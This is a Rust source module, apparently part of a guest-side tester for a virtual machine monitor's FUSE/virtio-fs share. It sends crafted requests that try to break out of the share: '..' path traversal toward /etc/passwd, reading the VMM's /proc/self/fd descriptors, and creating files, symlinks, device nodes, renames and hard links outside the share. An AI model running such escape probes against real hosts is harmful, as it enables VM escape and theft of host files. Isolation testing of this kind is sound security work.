//! Requests for files outside of the share: names with `..` and `/`, the VMM's descriptors, new files, links and devices.

use super::fuse::{Answer, Found, ROOT, Session, operation, text, words};
use super::{MARK, report, say};
use serde_json::json;

/// Directories above the share that are tried.
const DEPTH: usize = 8;
/// Bytes that are read of each file that is reached.
const CONTENT_BYTES: u32 = 256;
/// Descriptors of the VMM that are tried.
const DESCRIPTORS: u32 = 64;
/// File types of a mode.
const FILE_TYPE: u32 = libc::S_IFMT;

/// Tries all of them.
pub(super) fn run(session: &mut Session, targets: &[String]) {
    for target in targets {
        for depth in 0..=DEPTH {
            try_path(session, &format!("{}{}", "../".repeat(depth), &target[1..]));
        }
        try_path(session, target);
    }
    let top = climb(session);
    list(session, top, "top");
    descriptors(session);
    create(session, top);
}

/// Looks up a path in one request, and reads the file there.
fn try_path(session: &mut Session, path: &str) -> Option<Found> {
    let found = match session.lookup(ROOT, path.as_bytes()) {
        Ok(found) if found.node != 0 => found,
        Ok(_) => {
            say(&json!({"path": path, "errno": libc::ENOENT}));
            return None;
        }
        Err(errno) => {
            say(&json!({"path": path, "errno": errno}));
            return None;
        }
    };
    let content = match found.mode & FILE_TYPE {
        libc::S_IFLNK => session.readlink(found.node),
        libc::S_IFDIR => Ok(Vec::new()),
        _ => content(session, found.node),
    };
    say(&match content {
        Ok(content) => {
            json!({"path": path, "mode": found.mode, "content": String::from_utf8_lossy(&content)})
        }
        Err(errno) => json!({"path": path, "mode": found.mode, "read_errno": errno}),
    });
    Some(found)
}

fn content(session: &mut Session, node: u64) -> Answer<Vec<u8>> {
    let handle = session.open_node(operation::OPEN, node, libc::O_NONBLOCK as u32)?;
    session.read(operation::READ, node, handle, CONTENT_BYTES)
}

/// Returns the highest directory that LOOKUP of ".." leads to, one request for each step.
fn climb(session: &mut Session) -> u64 {
    let mut node = ROOT;
    for depth in 1..=DEPTH {
        match session.lookup(node, b"..") {
            Ok(found) => node = found.node,
            Err(errno) => {
                say(&json!({"climb": depth, "errno": errno}));
                break;
            }
        }
    }
    // One request for all steps leads higher on a server that checks single names only.
    session
        .lookup(ROOT, "../".repeat(DEPTH).as_bytes())
        .map_or(node, |found| found.node)
}

/// Prints the names in a directory.
fn list(session: &mut Session, node: u64, what: &str) {
    let entries = session
        .open_node(operation::OPENDIR, node, 0)
        .and_then(|handle| session.read(operation::READDIR, node, handle, 8192));
    say(&match entries {
        Ok(entries) => json!({"list": what, "names": names(&entries)}),
        Err(errno) => json!({"list": what, "errno": errno}),
    });
}

/// Returns the names of READDIR's entries: inode, offset, length, type, name, padding to 8 bytes.
fn names(mut entries: &[u8]) -> Vec<String> {
    let mut found = Vec::new();
    while let Some(length) = entries.get(16..20) {
        let length = u32::from_le_bytes(length.try_into().unwrap_or_default()) as usize;
        let Some(name) = entries.get(24..24 + length) else {
            break;
        };
        found.push(String::from_utf8_lossy(name).into_owned());
        let next = (24 + length).next_multiple_of(8);
        entries = entries.get(next..).unwrap_or_default();
    }
    found
}

/// Prints the targets of the VMM's open files, as far as its jail has /proc, and reads those that lead to files.
fn descriptors(session: &mut Session) {
    for prefix in ["proc/self/fd", "proc/self", "proc/1", "dev/fd"] {
        let dir = format!("{}{prefix}", "../".repeat(DEPTH));
        let Some(found) = try_path(session, &dir) else {
            continue;
        };
        list(session, found.node, prefix);
        for number in 0..DESCRIPTORS {
            let path = format!("{dir}/{number}");
            if session
                .lookup(ROOT, path.as_bytes())
                .is_ok_and(|found| found.node != 0)
            {
                try_path(session, &path);
                // Through the descriptor of a directory, to its neighbors.
                try_path(session, &format!("{path}/.."));
                try_path(session, &format!("{path}/../../../../../../etc/passwd"));
            }
        }
    }
}

/// Creates files, links and devices outside of the share, and opens the devices.
fn create(session: &mut Session, top: u64) {
    let up = "../".repeat(DEPTH);
    for (place, node) in [("share", ROOT), ("top", top)] {
        for name in [
            MARK.to_owned(),
            format!("../{MARK}"),
            format!("{up}{MARK}"),
            format!("{up}tmp/{MARK}"),
        ] {
            report(place, "create", &name, session.create(node, &name));
            let link = format!("{name}-link");
            let body = [text(link.as_bytes()), text(b"/")].concat();
            report(
                place,
                "symlink",
                &link,
                session.call(operation::SYMLINK, node, &body),
            );
            try_path(session, &format!("{link}/etc/passwd"));
            for (kind, major, minor) in [
                (libc::S_IFCHR, 1, 1),
                (libc::S_IFBLK, 8, 0),
                (libc::S_IFBLK, 254, 0),
            ] {
                let device = format!("{name}-{major}-{minor}");
                let mut body = words(&[kind | 0o666, major << 8 | minor, 0, 0]);
                body.extend(text(device.as_bytes()));
                report(
                    place,
                    "mknod",
                    &device,
                    session.call(operation::MKNOD, node, &body),
                );
                try_path(session, &device);
            }
            let mut body = ROOT.to_le_bytes().to_vec();
            body.extend([text(b"../etc"), text(name.as_bytes())].concat());
            report(
                place,
                "rename",
                &name,
                session.call(operation::RENAME, node, &body),
            );
            let mut body = top.to_le_bytes().to_vec();
            body.extend(text(name.as_bytes()));
            report(
                place,
                "link",
                &name,
                session.call(operation::LINK, node, &body),
            );
        }
    }
    let wide = [&u64::MAX.to_le_bytes()[..], &words(&[0; 12])].concat();
    report(
        "share",
        "setupmapping",
        "",
        session.call(operation::SETUPMAPPING, ROOT, &wide),
    );
    report(
        "share",
        "ioctl",
        "",
        session.call(operation::IOCTL, ROOT, &wide),
    );
}
